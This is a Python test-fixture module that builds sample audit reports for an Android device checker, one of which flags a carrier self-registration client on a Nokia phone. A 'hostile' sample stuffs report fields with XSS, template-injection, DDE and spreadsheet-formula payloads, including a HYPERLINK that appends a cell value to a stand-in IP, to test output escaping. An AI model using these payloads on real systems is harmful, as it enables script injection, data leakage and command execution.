"""Reports made up for tests: one for each verdict, and one whose unit is hostile."""

from __future__ import annotations

from audit.model.evidence import Gap, Source, SourceKind, Topic, UnitId
from audit.model.facts import Unread
from audit.model.profiles import Aspect, Level, Outcome, Strength
from audit.model.report import (
    Coverage,
    Decision,
    Evidence,
    Expectation,
    Finding,
    Identity,
    Reach,
    RegionReading,
    Report,
    Severity,
    Signal,
    Verdict,
)

SERIAL = "B2NGAA8871234567"
IMEI = "356938035643809"
IMSI = "242017712345678"
ICCID = "8947080012345678901"
MAC = "02:00:5e:10:00:1f"
EUI64 = "fe80::200:5eff:fe10:1f"
PHONE = "+47 912 34 567"
IDENTIFIERS = (SERIAL, IMEI, IMSI, ICCID, MAC, EUI64, PHONE)
KEY = b"a key for tests"

CLIENT = "com.qualcomm.qti.autoregistration"
_PRODUCT = Signal(
    rule="product-name",
    oem="hmd",
    what="property ro.product.name",
    value="Onyx_00WW",
    says="WW",
    markets=frozenset({"DE", "NO", "SE"}),
    strength=Strength.STRONG,
    aspect=Aspect.BUILD,
    origin="getprop",
    meaning="00WW is the maker's build for the world outside China.",
)
_LOCALE = Signal(
    rule="locale",
    oem="any",
    what="property persist.sys.locale",
    value="nb-NO",
    says="NO",
    markets=frozenset({"NO"}),
    strength=Strength.USAGE,
    aspect=Aspect.USAGE,
    origin="getprop",
)
_WORLD = RegionReading(
    region="WW", markets=_PRODUCT.markets, signals=(_PRODUCT,), usage=(_LOCALE,), oem="hmd"
)
_COVERAGE = (
    Coverage(topic="properties", reach=Reach.READ, count=812),
    Coverage(topic="users", reach=Reach.READ, count=1),
    Coverage(topic="packages", reach=Reach.READ, count=214),
    Coverage(topic="overlays", reach=Reach.READ, count=9),
    Coverage(topic="flows", reach=Reach.NOT_ASKED, count=0),
)
_LIMITS = (
    "Registration code in modem firmware is not visible to an audit of packages.",
    "No network traffic was watched: destinations are those documented, not seen.",
)


def _report(
    decision: Decision,
    findings: tuple[Finding, ...],
    *,
    identity: Identity,
    because: tuple[str, ...] | None = None,
    region: RegionReading = _WORLD,
    market: str | None = "NO",
    detail: str = "adb server at 127.0.0.1:5037, because one answers there",
    coverage: tuple[Coverage, ...] = _COVERAGE,
    unread: tuple[Unread, ...] = (),
) -> Report:
    return Report(
        schema="adb-audit/report/1",
        tool_version="0.1.0",
        judged_at="2026-01-02T03:04:05Z",
        acquired_at="2026-01-02T03:04:01Z",
        unit=UnitId(serial=identity.serial or None, model=identity.model or None),
        identity=identity,
        source=Source(kind=SourceKind.LIVE, detail=detail),
        expectation=Expectation(market=market),
        region=region,
        findings=findings,
        verdict=Verdict(decision=decision, because=because or tuple(f.message for f in findings[:1])),
        coverage=coverage,
        unread=unread,
        limits=_LIMITS,
        rulebook_sha256="5f" * 32,
        snapshot_sha256="a0" * 32,
    )


def _nokia(build: str, serial: str = SERIAL) -> Identity:
    return Identity(
        serial=serial,
        manufacturer="HMD Global",
        brand="Nokia",
        model="Nokia 7 plus",
        device="B2N_sprout",
        product="Onyx_00WW",
        build=build,
        incremental=build,
        fingerprint=f"Nokia/Onyx_00WW/B2N_sprout:9/PPR1.180610.011/{build}:user/release-keys",
        android="9",
        patch="2019-01-01",
    )


def _passed(check: str, message: str) -> Finding:
    return Finding(check=check, outcome=Outcome.PASS, severity=Severity.INFO, message=message)


_REGION_FITS = _passed("region-market", "The unit's own region WW includes market NO.")
_AGREE = _passed("region-signals", "1 signal of the unit's region was read; none contradicts another.")
_DENYLIST = _passed("denylist", "None of 14 denylisted packages is among the 214 that were listed.")
_NO_CLIENT = _passed(
    "client-market",
    "None of the 92 catalogued clients is out of its market among the 214 packages that were listed.",
)
_SKIPPED = Finding(
    check="sku-overlays",
    outcome=Outcome.NOT_APPLICABLE,
    severity=Severity.INFO,
    message="The unit has no overlays that name a SKU.",
)
_NOTE = Finding(
    check="client-market",
    outcome=Outcome.PASS,
    severity=Severity.INFO,
    subject="com.evenwell.autoregistration",
    level=Level.UNKNOWN,
    message="com.evenwell.autoregistration is on the unit and is meant for WW, which is this market."
    " Whether it is armed could not be told: no gate of it is documented that this audit could read.",
    why="The maker's own warranty activation.",
    evidence=(Evidence(what="package installed", value="com.evenwell.autoregistration", origin="pm list"),),
    facts=(("documented endpoint", "host www.c2dms.com"),),
    sources=("https://example.org/c2dms",),
)


def _client(outcome: Outcome, level: Level, gate: str, enabled: str) -> Finding:
    return Finding(
        check="client-market",
        outcome=outcome,
        severity=Severity.CRITICAL if outcome is Outcome.FAIL else Severity.MEDIUM,
        subject=CLIENT,
        level=level,
        message=f"{CLIENT} is on the unit and is meant for CN, not for NO. It is {level.value}:"
        f" property persist.vendor.radio.ps.registration.enabled = {enabled}.",
        why="Registers the unit with China Telecom's server: serial numbers of unit and SIM and the serving"
        " cell go out in clear text.",
        fix="Flash a build the maker names as fixed, then audit again.",
        evidence=(
            Evidence(what="package installed", value=f"{CLIENT} (uid 1001)", origin="pm list packages -f -U"),
            Evidence(
                what=f"gate {gate}: property persist.vendor.radio.ps.registration.enabled",
                value=enabled,
                origin="getprop",
            ),
            Evidence(what="property ro.serialno", value=SERIAL, origin="getprop"),
            Evidence(what="property ril.gsm.imei", value=f"{IMEI},{IMEI}", origin="getprop"),
        ),
        facts=(
            ("client", "China Telecom self-registration (Qualcomm, self-registration)"),
            ("serves", "CN"),
            ("documented endpoint", "url http://zzhc.vnet.cn port 80, cleartext, China Telecom"),
            ("documented to send", "IMEI, ICCID, IMSI, MAC, cell id"),
            ("fixed builds", "00WW_3_39B_SP03, 00WW_3_22C_SP05"),
        ),
        sources=("https://github.com/bcyj/android_tools_leeco_msm8996/issues/1",),
    )


INCIDENT = _report(
    Decision.FAIL,
    (
        _REGION_FITS,
        _AGREE,
        _client(Outcome.FAIL, Level.ARMED, "open", "true"),
        _NOTE,
        _SKIPPED,
        _DENYLIST,
    ),
    because=(_client(Outcome.FAIL, Level.ARMED, "open", "true").message,),
    identity=_nokia("00WW_3_22C"),
)
DORMANT = _report(
    Decision.REVIEW,
    (_client(Outcome.REVIEW, Level.DORMANT, "closed", "false"), _REGION_FITS, _AGREE, _DENYLIST),
    identity=_nokia("00WW_4_10C", "B2NGAA8879999999"),
)
NOTED = _report(
    Decision.PASS,
    (_REGION_FITS, _AGREE, _NO_CLIENT, _NOTE, _DENYLIST),
    identity=_nokia("00WW_3_22C_SP05", "B2NGAA8870000001"),
)
HALF_READ = _report(
    Decision.INCONCLUSIVE,
    (
        Finding(
            check="client-market",
            outcome=Outcome.INCONCLUSIVE,
            severity=Severity.INFO,
            subject="packages",
            message="Could not be told: the package list of user 10 was refused.",
            fix="Unlock the work profile, or ask its administrator.",
            evidence=(
                Evidence(
                    what="gap in packages", value="SecurityException", origin="pm list packages --user 10"
                ),
            ),
        ),
        _REGION_FITS,
    ),
    identity=_nokia("00WW_4_10C", "B2NGAA8870000002"),
    coverage=(
        Coverage(topic="properties", reach=Reach.READ, count=640),
        Coverage(
            topic="packages",
            reach=Reach.PARTLY,
            count=198,
            gaps=(
                Gap(
                    topic=Topic.PACKAGES,
                    reason="the package list of user 10 was refused",
                    fix="Unlock the work profile, or ask its administrator.",
                    origin="pm list packages --user 10",
                    user=10,
                ),
            ),
        ),
        Coverage(
            topic="overlays",
            reach=Reach.MISSING,
            count=0,
            gaps=(Gap(topic=Topic.OVERLAYS, reason="no overlay service answered", fix="Restart the unit."),),
        ),
    ),
    unread=(Unread(origin="getprop", line=7, text="half a line"),),
)
EMPTY = _report(
    Decision.INCONCLUSIVE,
    (),
    because=("Nothing could be judged.",),
    identity=Identity(),
    region=RegionReading(region=None, markets=frozenset()),
    market=None,
    coverage=(Coverage(topic="properties", reach=Reach.MISSING, count=0),),
)

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>[bold red]&amp;{{7*7}}]]>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
HOSTILE = _report(
    Decision.FAIL,
    (
        Finding(
            check="client-market",
            outcome=Outcome.FAIL,
            severity=Severity.HIGH,
            subject=FORMULA,
            message=f"{MARKUP} says it is fine",
            why="@SUM(1+1)*cmd|' /C calc'!A0",
            fix="+1",
            evidence=(
                Evidence(what=MARKUP, value=FORMULA, origin="-2+3"),
                Evidence(what="label", value="\u6ce8\u518c " + "x" * 400, origin="dumpsys\tpackage"),
            ),
            facts=((MARKUP, "=1+1"),),
            sources=("javascript:alert(3)", 'https://example.org/"><script>alert(4)</script>'),
        ),
    ),
    identity=Identity(
        serial=SERIAL, manufacturer=MARKUP, model="=1+1", build="[/]\\[red]", fingerprint="@x\n=1+1"
    ),
    detail=f"usb 1-4.2 {SERIAL}",
    unread=(
        Unread(
            origin="getprop",
            line=3,
            text=f"imei={IMEI} imsi {IMSI} iccid {ICCID} mac {MAC} {EUI64} call {PHONE}"
            f" [ro.serialno]: [{SERIAL}",
        ),
    ),
)

ALL = {
    "incident": INCIDENT,
    "dormant": DORMANT,
    "noted": NOTED,
    "half-read": HALF_READ,
    "empty": EMPTY,
    "hostile": HOSTILE,
}
"""Every sample by name."""
